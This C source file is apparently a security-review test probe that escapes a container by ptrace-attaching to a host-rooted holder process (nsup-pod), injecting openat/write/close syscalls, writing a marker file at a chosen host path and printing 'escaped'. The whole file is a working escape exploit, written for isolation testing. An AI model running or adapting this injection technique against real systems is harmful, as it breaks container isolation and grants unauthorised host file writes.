// holderprobe PID PATH: run from inside an environment, take over process
// PID (a pod's holder, nsup-pod) with ptrace(2) and make it create PATH,
// a path of the host (the holder's root is the host's), writing a line
// into it. Prints "escaped" once PATH is written. Only ptrace is used
// (Docker's default seccomp profile allows it): no capability is needed
// beyond what the ptrace access check grants. Static, single-threaded;
// a review test's probe.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static pid_t pid;
static struct user_regs_struct saved;
static unsigned long sysaddr;

static void die(const char *what) { fprintf(stderr, "holderprobe: %s: %s\n", what, strerror(errno)); exit(1); }

// poke copies n bytes to addr in the tracee.
static void poke(unsigned long addr, const char *p, size_t n) {
	for (size_t i = 0; i < n; i += 8) {
		long w = 0;
		memcpy(&w, p + i, n - i < 8 ? n - i : 8);
		if (ptrace(PTRACE_POKEDATA, pid, addr + i, (void *)w) < 0) die("POKEDATA");
	}
}

// inject runs one system call in the tracee and returns its result.
static long inject(long nr, long a1, long a2, long a3, long a4) {
	struct user_regs_struct r = saved;
	int st;
	r.rip = sysaddr;
	r.orig_rax = -1;
	r.rax = nr;
	r.rdi = a1;
	r.rsi = a2;
	r.rdx = a3;
	r.r10 = a4;
	if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0) die("SETREGS");
	if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0) die("SINGLESTEP");
	if (waitpid(pid, &st, __WALL) < 0) die("waitpid");
	if (ptrace(PTRACE_GETREGS, pid, 0, &r) < 0) die("GETREGS");
	return (long)r.rax;
}

int main(int argc, char **argv) {
	if (argc != 3) { fprintf(stderr, "usage: holderprobe PID PATH\n"); return 2; }
	pid = atoi(argv[1]);
	int st;
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) die("PTRACE_SEIZE");
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0) die("PTRACE_INTERRUPT");
	if (waitpid(pid, &st, __WALL) < 0) die("waitpid");
	if (ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0) die("GETREGS");
	// The syscall instruction it sleeps in: rip is just after it.
	sysaddr = saved.rip - 2;
	errno = 0;
	long w = ptrace(PTRACE_PEEKTEXT, pid, sysaddr, 0);
	if (errno) die("PEEKTEXT");
	if ((w & 0xffff) != 0x050f) { fprintf(stderr, "holderprobe: no syscall at rip-2\n"); return 1; }
	// The path and the line, below its stack pointer (restored after).
	const char line[] = "written by an environment through nsup-pod\n";
	size_t plen = strlen(argv[2]) + 1, n = (plen + 7 + sizeof line + 7) & ~7UL;
	unsigned long buf = (saved.rsp - 1024 - n) & ~15UL;
	long *old = calloc(n / 8 + 1, 8);
	for (size_t i = 0; i < n; i += 8) {
		errno = 0;
		old[i / 8] = ptrace(PTRACE_PEEKDATA, pid, buf + i, 0);
		if (errno) die("PEEKDATA");
	}
	unsigned long pathAt = buf, lineAt = buf + ((plen + 7) & ~7UL);
	poke(pathAt, argv[2], plen);
	poke(lineAt, line, sizeof line);
	long fd = inject(SYS_openat, AT_FDCWD, pathAt, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	long wr = fd >= 0 ? inject(SYS_write, fd, lineAt, sizeof line - 1, 0) : 0;
	if (fd >= 0)
		inject(SYS_close, fd, 0, 0, 0);
	for (size_t i = 0; i < n; i += 8)
		ptrace(PTRACE_POKEDATA, pid, buf + i, (void *)old[i / 8]);
	ptrace(PTRACE_SETREGS, pid, 0, &saved);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	if (fd < 0) { fprintf(stderr, "holderprobe: openat(%s) in the holder: %s\n", argv[2], strerror(-fd)); return 1; }
	if (wr < 0) { fprintf(stderr, "holderprobe: write in the holder: %s\n", strerror(-wr)); return 1; }
	printf("escaped\n");
	return 0;
}
